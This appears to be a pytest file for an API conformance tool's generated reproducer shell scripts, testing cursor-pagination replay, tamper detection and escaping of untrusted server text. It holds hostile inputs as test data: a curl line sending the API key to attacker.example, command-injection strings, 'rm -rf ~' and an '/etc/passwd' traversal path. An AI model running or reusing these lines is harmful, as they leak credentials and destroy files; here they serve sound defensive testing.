"""reproduce/<ID>.sh: run with bash against the live faulty server, a reproducer replays the walk,
following the cursors the live pages give, and shows the defect; it holds no key, target text
in it stays inert, and `verify` refuses a changed script."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conformance.exchange import Exchange
from conformance.reference.server import ReferenceConfig, start_background
from conformance.reports.reproducers import build_script
from tests.reports.conftest import API_KEY, CliRun, run_cli

STEP = re.compile(r"^step (\d+)[^:]*: GET \S*?starting_after=<the last of step (\d+)>", re.M)


@pytest.fixture(scope="module")
def inclusive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """A server whose `starting_after` page starts with the cursor itself, and a run against it."""
    with start_background(ReferenceConfig(api_key=API_KEY, fault="cursor-inclusive")) as server:
        report_dir = tmp_path_factory.mktemp("inclusive") / "reports"
        code, _, _ = run_cli(["run", "--base-url", server.base_url, "--api-key", API_KEY, "--profile", "quick",
                              "--quiet", "--report-dir", str(report_dir)])
        assert code == 1
        yield server.base_url, report_dir


def _bash(script: Path, env: dict[str, str], cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    # This venv's python3 first on PATH: the scripts call python3 a few times per step.
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
    return subprocess.run(["bash", str(script)], env={"PATH": path, **env}, cwd=cwd,
                          capture_output=True, text=True, timeout=120)


def _now_ids(output: str) -> dict[int, list[str]]:
    """Step number -> the ids the live server listed, read from the script's output."""
    ids: dict[int, list[str]] = {}
    for block in re.split(r"^(?=step \d+)", output, flags=re.M):
        number = re.match(r"step (\d+)", block)
        now = re.search(r"^  now: .*\n    ids: (.*)$", block, re.M)
        if number and now:
            ids[int(number.group(1))] = now.group(1).split()
    return ids


def test_the_walk_replayed_live_shows_the_repeated_item(inclusive: tuple[str, Path]) -> None:
    _, report_dir = inclusive
    script = report_dir / "reproduce" / "PAG-001.sh"
    assert os.access(script, os.X_OK) and API_KEY not in script.read_text()
    done = _bash(script, {"CONFORMANCE_API_KEY": API_KEY})
    assert done.returncode == 0, done.stderr
    chained = [(int(a), int(b)) for a, b in STEP.findall(done.stdout)]
    assert chained, "the script follows cursors from earlier pages"
    ids = _now_ids(done.stdout)
    # The defect, read from what the live server sent: the page after a cursor starts with the cursor.
    assert all(ids[step][0] == ids[parent][-1] for step, parent in chained)
    assert "What to look at (PAG-001, fail):" in done.stdout


def test_without_the_key_the_script_says_so(inclusive: tuple[str, Path]) -> None:
    done = _bash(inclusive[1] / "reproduce" / "PAG-001.sh", {})
    assert done.returncode != 0 and "set CONFORMANCE_API_KEY" in done.stderr


def test_a_conformant_run_has_no_reproducers(clean_run: CliRun) -> None:
    assert not (clean_run.report_dir / "reproduce").exists()


def test_verify_refuses_a_changed_reproducer(inclusive: tuple[str, Path], tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(inclusive[1], copy)
    assert run_cli(["verify", str(copy)])[0] == 0
    script = copy / "reproduce" / "PAG-001.sh"
    script.write_text(script.read_text() + 'curl -d "$CONFORMANCE_API_KEY" https://attacker.example\n')
    code, _, err = run_cli(["verify", str(copy)])
    assert code == 1 and "reproduce/PAG-001.sh differs from what the evidence gives: do not run it" in err


def test_target_text_stays_inert(tmp_path: Path) -> None:
    hostile = "cs_1'$(touch pwned)'\x1b[31m`touch pwned2`"
    first = Exchange(0, "walk:2", "/v1/checkout/sessions", [("limit", "2")], status=200, body=json.dumps(
        {"object": "list", "data": [{"id": "cs_0"}, {"id": hostile}], "has_more": True, "url": "/x"}))
    second = Exchange(1, "walk:2", "/v1/checkout/sessions", [("limit", "2"), ("starting_after", hostile)],
                      status=200, body='{"object": "list", "data": [], "has_more": false}')
    requirement = {"id": "PAG-001", "level": "MUST", "verdict": "fail", "text": "walk\n$(touch pwned3)",
                   "evidence": [{"message": "x'; touch pwned4; echo '\nrm -rf ~", "expected": "$(touch pwned5)",
                                 "actual": hostile, "exchanges": [{"seq": 1}]}]}
    script = tmp_path / "PAG-001.sh"
    text = build_script(requirement, [first, second], "http://127.0.0.1:9")
    assert text is not None and "\x1b" not in text
    script.write_text(text)
    assert "cursor_1_last=$(field" in text  # the hostile id is taken from the live page, never pasted as code
    done = _bash(script, {"CONFORMANCE_API_KEY": API_KEY}, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert not list(tmp_path.glob("pwned*")) and "\x1b" not in done.stdout
    assert "no answer" in done.stdout  # port 9 (discard) refuses: the script still runs to its end


def test_a_new_run_leaves_no_script_or_signature_of_an_old_one(inclusive: tuple[str, Path], tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(inclusive[1], copy)
    (copy / "certificate.sig").write_bytes(b"\0" * 64)  # as if an earlier run had been signed
    code, _, _ = run_cli(["run", "--report-dir", str(copy), "--api-key", API_KEY, "--profile", "quick", "--quiet"])
    assert code == 0
    assert not (copy / "reproduce").exists() and not (copy / "certificate.sig").exists()
    assert run_cli(["verify", str(copy)])[0] == 0


def test_a_request_without_credentials_is_replayed_without_them() -> None:
    """AUTH-001's evidence is a request with no key: replaying it with the key would show nothing."""
    bare = Exchange(0, "auth:none", "/v1/checkout/sessions", [("limit", "3")], auth="none", status=200,
                    body='{"object": "list", "data": [], "has_more": false}')
    requirement = {"id": "AUTH-001", "level": "MUST", "verdict": "fail", "text": "401 without credentials",
                   "evidence": [{"message": "got 200", "expected": "401", "actual": "200", "exchanges": [{"seq": 0}]}]}
    text = build_script(requirement, [bare], "http://127.0.0.1:9")
    assert text is not None
    curl = next(line for line in text.splitlines() if line.startswith("status=$(fetch"))
    assert "CONFORMANCE_API_KEY" not in curl and "-u" not in curl.split() and "Authorization" not in curl
    assert "GET /v1/checkout/sessions?limit=3 (no credentials)" in text


def test_two_operations_name_each_script_by_its_operation(two_dir: Path, two_result: Any) -> None:
    from conformance.reports.reproducers import reproducer_problems
    from tests.reports.multi import INVOICES, failed_on

    names = sorted(p.name for p in (two_dir / "reproduce").iterdir())
    report = json.loads((two_dir / "report.json").read_text(encoding="utf-8"))
    expected = sorted(f"{'GET_v1_invoices' if r['operation'] == INVOICES else 'GET_v1_checkout_sessions'}__{r['id']}.sh"
                      for r in report["requirements"] if r["verdict"] in ("fail", "warn") and r["evidence"]
                      and any(item["exchanges"] for item in r["evidence"]))
    assert names == expected
    (failed,) = failed_on(two_result, INVOICES)
    text = (two_dir / "reproduce" / f"GET_v1_invoices__{failed}.sh").read_text(encoding="utf-8")
    assert f"# checkout-conformance reproducer for {failed} on GET /v1/invoices (MUST, fail):" in text
    fetched = [line for line in text.splitlines() if line.startswith("status=$(fetch")]
    # Every request replays the invoices exchange's own path, never a checkout sessions one.
    assert fetched and all("/v1/invoices" in line and "/v1/checkout/sessions" not in line for line in fetched)
    assert reproducer_problems(report, two_result.exchanges, two_dir) == []


def test_a_cursor_is_taken_only_from_a_page_of_the_same_operation() -> None:
    # The same ids on two operations' pages (as two copies of one store could show): a cursor sent
    # to invoices must not be chained to a checkout sessions page.
    page = '{"object": "list", "data": [{"id": "x_1"}, {"id": "x_2"}], "has_more": true}'
    checkout = Exchange(0, "walk:2", "/v1/checkout/sessions", [("limit", "2")], status=200, body=page)
    invoices = Exchange(1, "walk:2", "/v1/invoices", [("limit", "2"), ("starting_after", "x_2")], status=200,
                        body='{"object": "list", "data": [], "has_more": false}')
    requirement = {"id": "PAG-001", "operation": "GET /v1/invoices", "level": "MUST", "verdict": "fail",
                   "text": "walk", "evidence": [{"message": "m", "expected": "", "actual": "",
                                                 "exchanges": [{"seq": 1}]}]}
    several = build_script(requirement, [checkout, invoices], "http://127.0.0.1:9", several=True)
    assert several is not None and "cursor_1_last" not in several and "step 2" not in several
    assert "starting_after=x_2" in several  # the recorded cursor, replayed as sent
    one = build_script(requirement, [checkout, invoices], "http://127.0.0.1:9")
    assert one is not None and "cursor_1_last=$(field" in one  # one operation: chained as before


def test_operation_slugs_are_safe_file_names_and_distinct() -> None:
    from conformance.reports.document import operation_slugs

    keys = ["GET /v1/invoices", "GET /v1/a-b", "GET /v1/a_b", "GET /../../etc/passwd", "GET /", "GET /" + "x" * 300,
            "GET /v1/\u00e9\x1b[31m"]
    slugs = operation_slugs(keys)
    assert slugs["GET /v1/invoices"] == "GET_v1_invoices"
    assert all(re.fullmatch(r"[A-Za-z0-9_]{1,100}", slug) for slug in slugs.values()), slugs
    assert len(set(slugs.values())) == len(keys)
    assert slugs["GET /v1/a-b"].startswith("GET_v1_a_b_") and slugs["GET /v1/a_b"].startswith("GET_v1_a_b_")
